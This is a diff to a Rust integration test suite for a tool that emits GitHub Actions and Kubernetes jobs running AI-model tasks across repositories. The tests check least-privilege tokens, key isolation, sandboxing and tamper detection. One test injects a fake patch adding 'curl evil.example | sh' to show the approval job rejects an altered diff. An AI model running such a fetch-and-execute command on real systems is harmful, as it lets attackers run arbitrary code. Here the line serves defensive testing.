@@ -197,9 +197,10 @@ fn three_hundred_repositories_make_two_matrices() {
         assert_eq!(include.len(), size);
         assert_eq!(run["strategy"]["fail-fast"], false);
         assert_eq!(run["strategy"]["max-parallel"], 7);
-        assert!(
-            run.get("permissions").is_none(),
-            "run jobs keep contents: read"
+        assert_eq!(
+            run["permissions"],
+            serde_json::json!({ "contents": "read" }),
+            "run jobs can write nowhere"
         );
         indices.extend(include.iter().map(|e| e["index"].as_i64().unwrap()));
         let approve = &jobs[&format!("approve-{k}")];
@@ -299,6 +300,96 @@ struct Job {
     temp: Option<tempfile::TempDir>,
 }
 
+/// Every `${{ … }}` expression in `job` (its env, with and scripts).
+fn expressions(job: &Value) -> Vec<String> {
+    let text = job.to_string();
+    let mut out: Vec<String> = text
+        .split("${{")
+        .skip(1)
+        .map(|rest| rest.split("}}").next().unwrap().trim().to_string())
+        .collect();
+    out.sort();
+    out.dedup();
+    out
+}
+
+#[test]
+fn the_job_that_talks_to_the_model_can_write_nothing_and_the_job_that_pushes_runs_no_model() {
+    let repo = workflow_repo("https://example.com/org/a.git\n");
+    repo.file(
+        "workflows/live.yaml",
+        "wf: 1\nname: live\nmodel: { provider: anthropic, name: claude-haiku-4-5 }\ntools: [write_file]\npermissions: { write: [\"**\"] }\nprompt: Write out.txt.\n",
+    )
+    .commit();
+    let r = repo.wf(&[
+        "emit",
+        "github",
+        "workflows/live.yaml",
+        "--repos",
+        "repos.txt",
+        "--wf-install",
+        "true",
+        "--approval-environment",
+        "prod",
+    ]);
+    r.code(0);
+    assert!(r.stderr.contains("WF_GIT_READ_TOKEN"), "{}", r.stderr);
+    let w = yaml(&r.stdout);
+    assert_eq!(w["permissions"], serde_json::json!({ "contents": "read" }));
+    let run = &w["jobs"]["run-1"];
+    assert_eq!(
+        run["permissions"],
+        serde_json::json!({ "contents": "read" })
+    );
+    // The run job: the model key, a read-only token, and nothing that can
+    // write (the workflow's token is read-only in it).
+    assert_eq!(
+        expressions(run),
+        [
+            "matrix.index",
+            "matrix.inputs",
+            "matrix.repo",
+            "runner.os",
+            "runner.temp",
+            "secrets.ANTHROPIC_API_KEY",
+            "secrets.WF_GIT_READ_TOKEN || github.token",
+        ]
+        .map(String::from)
+        .to_vec()
+    );
+    // The key reaches the step that runs the task, and no other.
+    for step in run["steps"].as_array().unwrap() {
+        let has_key = step.to_string().contains("secrets.ANTHROPIC_API_KEY");
+        assert_eq!(has_key, step["name"] == "Run the task", "{step}");
+    }
+    // The approval job can push, and holds no model key: it receives the
+    // run folder and applies its diff.
+    let approve = &w["jobs"]["approve-1"];
+    assert_eq!(
+        approve["permissions"],
+        serde_json::json!({ "contents": "write", "pull-requests": "write" })
+    );
+    let used = expressions(approve);
+    assert!(!used.iter().any(|e| e.contains("API_KEY")), "{used:?}");
+    let steps = approve["steps"].as_array().unwrap();
+    let names: Vec<&str> = steps.iter().map(|s| s["name"].as_str().unwrap()).collect();
+    assert_eq!(
+        names,
+        [
+            "Check out the task",
+            "Cache wf",
+            "Install wf",
+            "Clone the repository",
+            "Download the run folder",
+            "Approve and resume",
+            "Push a branch"
+        ]
+    );
+    let approve_script = steps[5]["run"].as_str().unwrap();
+    assert!(approve_script.contains("sha256sum"), "{approve_script}");
+    assert!(!approve_script.contains("wf run"), "{approve_script}");
+}
+
 /// Runs a job of `workflow` for one matrix entry as a runner would: `run:`
 /// steps with bash (GitHub's `shell: bash` flags), expressions in `env:`
 /// substituted; `uses:` steps emulated (checkout: the workspace is
@@ -385,6 +476,7 @@ fn run_job(
             .env("GITHUB_SERVER_URL", "https://github.example")
             .env("GITHUB_REPOSITORY", "org/fleet")
             .env("GITHUB_RUN_ID", "42")
+            .env("CI", "true")
             .env("WF_TEST_MARK", mark)
             .env("TMPDIR", &temp)
             .env("NO_COLOR", "1")
@@ -535,6 +627,14 @@ fn the_jobs_run_the_task_upload_summarize_approve_and_push() {
             serde_json::from_str(&std::fs::read_to_string(runs[0].join("summary.json")).unwrap())
                 .unwrap();
         assert_eq!(summary["status"], "paused");
+        // The fresh clone is the run's workspace where the sandbox's full
+        // level is available (a copy below it).
+        let trace = std::fs::read_to_string(runs[0].join("trace.jsonl")).unwrap();
+        assert_eq!(
+            trace.contains("\"mode\":\"checkout\""),
+            crate::full_level(),
+            "{trace}"
+        );
         let word = entry["inputs"]
             .as_str()
             .unwrap()
@@ -555,6 +655,41 @@ fn the_jobs_run_the_task_upload_summarize_approve_and_push() {
     for id in &run_ids {
         assert!(summary.summary.contains(id.as_str()), "{}", summary.summary);
     }
+
+    // A diff.patch changed after the run (not the hash the run recorded
+    // and the reviewer was shown): the approval job applies and pushes
+    // nothing.
+    let patch = artifacts.path().join(format!(
+        "wf-run-{}/{}/diff.patch",
+        include[0]["index"], run_ids[0]
+    ));
+    let recorded = std::fs::read_to_string(&patch).unwrap();
+    std::fs::write(
+        &patch,
+        recorded.clone()
+            + "diff --git a/evil.sh b/evil.sh\nnew file mode 100755\n--- /dev/null\n+++ b/evil.sh\n@@ -0,0 +1 @@\n+curl evil.example | sh\n",
+    )
+    .unwrap();
+    let tampered = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
+        run_job(
+            &w,
+            "approve-1",
+            Some(&include[0]),
+            fleet.path(),
+            artifacts.path(),
+            &mark,
+        )
+    }));
+    let message = tampered
+        .err()
+        .and_then(|e| e.downcast::<String>().ok())
+        .expect("the approval job fails");
+    assert!(
+        message.contains("is not the diff the run recorded"),
+        "{message}"
+    );
+    assert_eq!(git(first.path(), &["branch", "--list", "wf/*"]), "");
+    std::fs::write(&patch, recorded).unwrap();
 
     // The approval job of the URL pushes a branch to it.
     let approved = run_job(
@@ -703,6 +838,107 @@ fn k8s_an_indexed_job_over_a_configmap() {
     let env = &job["spec"]["template"]["spec"]["containers"][0]["env"][1];
     assert_eq!(env["name"], "ANTHROPIC_API_KEY");
     assert_eq!(env["valueFrom"]["secretKeyRef"]["name"], "wf-provider");
+}
+
+/// The pod's script, run here as the container would run it (its paths
+/// moved under `root`), under `tests/support/no_userns.py`: namespaces
+/// refused as under the `RuntimeDefault` seccomp profile.
+#[test]
+fn k8s_the_pods_script_runs_the_task_confined_without_namespaces() {
+    let root = tempfile::tempdir().unwrap();
+    let root = root.path();
+    let canary = root.join("wf-runs/canary");
+    let target = target_repo();
+    let fleet = workflow_repo(&format!("{} word=pod\n", target.path().display()));
+    // A check that must see the model's change and must not reach the
+    // volume of run folders, which is outside its write roots.
+    fleet
+        .file(
+            "workflows/demo.yaml",
+            &format!(
+                "{TASK}checks:\n  - {{ name: confined, run: \"cat out.txt && ! touch {}\" }}\n",
+                canary.display()
+            ),
+        )
+        .commit();
+    let r = fleet.wf(&[
+        "emit",
+        "k8s",
+        "workflows/demo.yaml",
+        "--repos",
+        "repos.txt",
+        "--image",
+        "registry.example/wf:0.1.0",
+    ]);
+    r.code(0);
+    let docs: Vec<Value> = r.stdout.split("\n---\n").map(yaml).collect();
+    let (config, job) = (&docs[0], &docs[1]);
+    let pod = &job["spec"]["template"]["spec"];
+    let moved = |text: &str| {
+        text.replace("/etc/wf", &root.join("etc-wf").display().to_string())
+            .replace("/wf-runs", &root.join("wf-runs").display().to_string())
+            .replace("/work", &root.join("work").display().to_string())
+    };
+    // The ConfigMap's files, where the volume would mount them.
+    for item in pod["volumes"][0]["configMap"]["items"].as_array().unwrap() {
+        let path = root.join("etc-wf").join(item["path"].as_str().unwrap());
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        let key = item["key"].as_str().unwrap();
+        std::fs::write(path, config["data"][key].as_str().unwrap()).unwrap();
+    }
+    std::fs::create_dir_all(root.join("wf-runs")).unwrap();
+    std::fs::create_dir_all(root.join("work")).unwrap();
+    let container = &pod["containers"][0];
+    assert_eq!(container["command"][0], "bash");
+    let script = moved(container["command"][2].as_str().unwrap());
+    let bin_dir = Path::new(wf_bin()).parent().unwrap().to_path_buf();
+    let mut cmd = Command::new("python3");
+    cmd.arg(Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/support/no_userns.py"))
+        .args(["bash", "-c", &script])
+        .env(
+            "PATH",
+            format!("{}:{}", bin_dir.display(), std::env::var("PATH").unwrap()),
+        )
+        .env("JOB_COMPLETION_INDEX", "0")
+        .env("TMPDIR", root)
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("NO_COLOR", "1")
+        .envs(fleet.xdg())
+        .env_remove("ANTHROPIC_API_KEY")
+        .env_remove("OPENAI_API_KEY")
+        .stdin(std::process::Stdio::null());
+    for var in container["env"].as_array().unwrap() {
+        if let Some(value) = var["value"].as_str() {
+            cmd.env(var["name"].as_str().unwrap(), moved(value));
+        }
+    }
+    let out = cmd.output().unwrap();
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "{stderr}");
+    // The run folder on the volume: paused at the apply checkpoint after
+    // its check passed, confined at the level without namespaces.
+    let runs: Vec<PathBuf> = std::fs::read_dir(root.join("wf-runs"))
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .filter(|p| p.is_dir())
+        .collect();
+    assert_eq!(runs.len(), 1, "{runs:?}\n{stderr}");
+    let trace: Vec<Value> = std::fs::read_to_string(runs[0].join("trace.jsonl"))
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect();
+    let ready = super::events(&trace, "sandbox_ready")[0];
+    assert_eq!(ready["level"], "landlock", "{ready}");
+    let check = super::events(&trace, "check_result")[0];
+    assert_eq!(check["passed"], true, "{check}");
+    assert!(!canary.exists(), "the check wrote outside its write roots");
+    let summary: Value =
+        serde_json::from_str(&std::fs::read_to_string(runs[0].join("summary.json")).unwrap())
+            .unwrap();
+    assert_eq!(summary["status"], "paused");
+    assert_eq!(summary["inputs"]["word"], "pod");
 }
 
 #[test]
